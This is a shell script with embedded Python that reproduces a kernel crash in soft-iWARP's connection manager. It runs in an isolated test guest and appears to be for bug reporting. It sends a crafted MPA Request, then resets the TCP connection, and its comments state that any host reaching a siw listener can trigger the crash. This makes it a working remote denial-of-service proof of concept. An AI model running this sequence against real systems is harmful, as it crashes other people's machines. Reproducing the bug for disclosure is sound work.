#!/bin/bash
# siw-iwcm-crash.sh: reproduces an upstream soft-iWARP / iWARP CM crash,
# by hand, in a guest of its own (an oops: the guest ends at it, oops=panic,
# and the run fails on the report):
#
#   scripts/run-guest.sh --topo veth --timeout 120 --log out/iwcm.log \
#     tools/testing/zcnet/siw-iwcm-crash.sh
#
# Unmodified rping listens on siw in namespace b (rping -s -P, a persistent
# server); siw answers as a peer-to-peer responder since the Request asks
# for it. A plain TCP client in a -- no zcddp module loaded, no
# RDMA stack on its side -- sends an MPA revision 2 Request with enhanced
# connection data (peer-to-peer, IRD/ORD 1, a Send RTR offered), reads
# siw's Reply, and resets the connection (SO_LINGER 0) before sending the
# RTR siw waits for. siw then reports the close to the iWARP CM while the
# CM's id is not yet established, and cm_close_handler() reaches BUG()
# (kernel BUG at drivers/infiniband/core/iwcm.c:966, Linux 7.2.12; seen
# 2026-11-26). A normal close (FIN) at the same point did not crash it.
# Any host that can reach a siw listener can do this (the oops kills the
# CM's worker; the guest's runner then fails the run on the report). The
# last lines below print only on a kernel that survives it.
# zcddp.sh skips the
# case of its own that met it ("siw has no Send RTR": zcddp refuses siw's
# Reply and ends the connection).
. "$ZCNET_ROOT/scripts/topology.sh"
. "$ZCNET_ROOT/tools/testing/zcnet/bench-lib.sh"
PORT=7174
modprobe -a siw rdma_ucm || { echo "no siw"; exit 1; }
ip netns exec a rdma link add siwa type siw netdev va
ip netns exec b rdma link add siwb type siw netdev vb
ip netns exec b timeout 30 rping -s -P -a "$ZC_IP_B" -p $PORT > /tmp/rping-s.log 2>&1 &
listening b $PORT
ip netns exec a python3 - "$ZC_IP_B" $PORT <<'PY'
import socket, struct, sys
addr, port = sys.argv[1], int(sys.argv[2])
s = socket.create_connection((addr, port))
# Enhanced connection data: IRD word P2P | zero-length Send RTR | 1, ORD 1.
pd = struct.pack(">HH", 0x8000 | 0x4000 | 1, 1)
s.sendall(b"MPA ID Req Frame" + bytes([0x10, 2]) + struct.pack(">H", len(pd)) + pd)
b = b""
while len(b) < 20:
    c = s.recv(20 - len(b))
    if not c:
        break
    b += c
print("reply", b[:16], "private data", s.recv(struct.unpack(">H", b[18:20])[0]).hex(), flush=True)
s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
s.close()
print("reset", flush=True)
PY
# Time for siw's close to reach the CM's work queue (a reproducer, not a
# test).
sleep 3
dmesg | grep -q "kernel BUG at drivers/infiniband/core/iwcm.c" &&
  echo "reproduced: $(dmesg | grep -o 'kernel BUG at [^ ]*' | head -n 1)" || echo "not reproduced"
